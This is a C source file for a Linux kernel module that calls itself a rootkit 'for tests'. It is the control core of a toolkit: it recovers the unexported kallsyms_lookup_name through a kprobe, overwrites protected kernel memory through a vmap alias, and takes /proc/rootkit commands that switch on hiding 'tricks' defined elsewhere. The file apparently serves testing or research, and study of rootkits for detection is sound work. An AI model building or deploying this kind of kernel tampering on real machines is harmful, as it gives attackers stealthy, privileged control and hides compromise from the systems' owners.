// SPDX-License-Identifier: GPL-2.0-or-later
/* Control: `on TRICK [PID]` or `off TRICK` written to /proc/rootkit. Unloading takes everything back. */
#include <linux/kprobes.h>
#include <linux/mm.h>
#include <linux/module.h>
#include <linux/proc_fs.h>
#include <linux/uaccess.h>
#include <linux/vmalloc.h>

#include "rootkit.h"

static struct trick *const rooms[] = { function_tricks, memory_tricks, data_tricks, module_tricks, process_tricks };
struct proc_dir_entry *control;
static DEFINE_MUTEX(turn);
static unsigned long (*lookup)(const char *name);

void *symbol(const char *name)
{
	void *found = (void *)lookup(name);

	if (!found)
		pr_err("rootkit: no symbol %s\n", name);
	return found;
}

/* A kprobe may be set by name, and so tells the address of the function that is no longer exported. */
static int find_lookup(void)
{
	struct kprobe probe = { .symbol_name = "kallsyms_lookup_name" };
	int error = register_kprobe(&probe);

	if (error)
		return error;
	lookup = (void *)probe.addr;
	unregister_kprobe(&probe);
	return 0;
}

static struct page *page_of(void *address)
{
	bool in_module = (unsigned long)address >= MODULES_VADDR && (unsigned long)address < MODULES_END;

	return in_module ? vmalloc_to_page(address) : virt_to_page(address);
}

int overwrite(void *where, const void *bytes, size_t length)
{
	void *start = (void *)((unsigned long)where & PAGE_MASK);
	struct page *pages[] = { page_of(start), page_of(start + PAGE_SIZE) };
	void *alias = vmap(pages, ARRAY_SIZE(pages), VM_MAP, PAGE_KERNEL);

	if (!alias)
		return -ENOMEM;
	memcpy(alias + offset_in_page(where), bytes, length);
	vunmap(alias);
	return 0;
}

static struct trick *trick_of(const char *name)
{
	struct trick *trick;
	int room;

	for (room = 0; room < ARRAY_SIZE(rooms); room++)
		for (trick = rooms[room]; trick->name; trick++)
			if (!strcmp(trick->name, name))
				return trick;
	return NULL;
}

static int switch_on(struct trick *trick, pid_t pid)
{
	int error = trick->is_on ? -EALREADY : trick->on(pid);

	trick->is_on |= !error;
	return error;
}

static int switch_off(struct trick *trick)
{
	int error = trick->is_on ? trick->off() : 0;

	if (!error)
		trick->is_on = false;
	return error;
}

static ssize_t control_write(struct file *file, const char __user *text, size_t length, loff_t *position)
{
	char line[80] = "", verb[8] = "", name[40] = "";
	struct trick *trick;
	int pid = 0, error;

	if (length >= sizeof(line) || copy_from_user(line, text, length))
		return -EINVAL;
	if (sscanf(line, "%7s %39s %d", verb, name, &pid) < 2)
		return -EINVAL;
	trick = trick_of(name);
	if (!trick)
		return -ENOENT;
	mutex_lock(&turn);
	error = strcmp(verb, "on") ? switch_off(trick) : switch_on(trick, pid);
	mutex_unlock(&turn);
	return error ?: length;
}

static const struct proc_ops control_ops = { .proc_write = control_write };

static int __init rootkit_init(void)
{
	int error = find_lookup();

	if (error)
		return error;
	control = proc_create("rootkit", 0200, NULL, &control_ops);
	return control ? 0 : -ENOMEM;
}

static void __exit rootkit_exit(void)
{
	struct trick *trick;
	int room;

	proc_remove(control);
	for (room = 0; room < ARRAY_SIZE(rooms); room++)
		for (trick = rooms[room]; trick->name; trick++)
			switch_off(trick);
}

module_init(rootkit_init);
module_exit(rootkit_exit);
MODULE_DESCRIPTION("Vinci's rootkit for tests");
MODULE_LICENSE("GPL");
